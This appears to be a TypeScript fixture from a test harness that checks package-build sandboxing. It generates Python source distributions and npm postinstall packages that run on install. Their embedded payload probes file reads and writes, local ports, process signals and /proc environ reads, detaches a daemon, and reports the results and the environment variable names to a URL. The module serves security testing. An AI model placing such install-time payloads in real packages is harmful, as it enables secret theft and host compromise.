/** Packages whose code, when it is built or installed, tries what it must not, and tells what came of it to where it came from. */
import type { PackageSpec } from '../harness/registry.ts'
import { makeWheel, type PackageFile, packSdist } from '../harness/wheels.ts'

export interface Targets {
  /** Absolute; to be read. */
  read: Record<string, string>
  /** Absolute; to be written. */
  write: Record<string, string>
  /** TCP ports of this machine. */
  connect: Record<string, number>
  /** To be signalled. */
  pid: number
  /** Stands in the command line of what is left behind. */
  marker: string
  /** A file of the package: what is left behind has it open, and writes into it. */
  hold?: string
  /** Where the outcome is told: its path is asked for, with what came of it in hexadecimal digits. */
  report: string
}

/** `ok`, or the name of what kept it from it, for each attempt; and the names of the variables that it saw. */
export interface Report {
  tried: Record<string, string>
  variables: string[]
}

/** The last report among the paths that a server was asked for. */
export function reportIn(paths: string[]): Report | null {
  const path = paths.findLast((one) => one.includes('/report/'))
  return path ? JSON.parse(Buffer.from(path.slice(path.lastIndexOf('/') + 1), 'hex').toString()) : null
}

/** Run by Python as it is. */
export const pythonAttack = (targets: Targets) => `
import json, os, socket, subprocess, sys, urllib.request
targets = json.loads(${JSON.stringify(JSON.stringify(targets))})
tried = {}
def attempt(name, act):
    try:
        act()
        tried[name] = "ok"
    except BaseException as error:
        tried[name] = type(error).__name__
def read(path):
    if os.path.isdir(path):
        os.listdir(path)
    else:
        open(path, "rb").read(10)
for name, path in targets["read"].items():
    attempt("read " + name, lambda: read(path))
for name, path in targets["write"].items():
    attempt("write " + name, lambda: open(path, "ab").write(b"evil"))
for name, port in targets["connect"].items():
    attempt("connect to " + name, lambda: socket.create_connection(("127.0.0.1", port), 2).close())
attempt("signal", lambda: os.kill(targets["pid"], 0))
attempt("environment", lambda: open("/proc/%d/environ" % targets["pid"], "rb").read(1))
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            held = os.open(targets.get("hold", "/dev/null"), os.O_WRONLY | os.O_APPEND)
            for fd in range(3): os.dup2(null, fd)
            os.dup2(held, 3)
            os.closerange(4, 64)
            code = "import os, time\\nwhile True: os.write(3, b' '); time.sleep(0.001)"
            os.execve(sys.executable, [sys.executable, "-c", code, targets["marker"]], {})
        os._exit(0)
attempt("daemon", daemon)
found = json.dumps({"tried": tried, "variables": sorted(os.environ)})
try:
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(targets["report"] + "/report/" + found.encode().hex(), timeout=5)
except urllib.error.HTTPError:
    pass
`

/** Source whose build runs this Python, and comes to a wheel nevertheless. */
export const sdistThat = (name: string, code: string): PackageFile =>
  packSdist({ name, version: '1.0.0', code, wheel: makeWheel({ name, version: '1.0.0' }) })

/** An npm package whose install script is this command line, beside these files. */
export const npmThatRuns = (name: string, script: string, files: Record<string, string> = {}): PackageSpec => ({
  ...{ name, version: '1.0.0', fields: { scripts: { postinstall: script } } },
  files: { 'index.js': 'module.exports = 1\n', ...files },
})
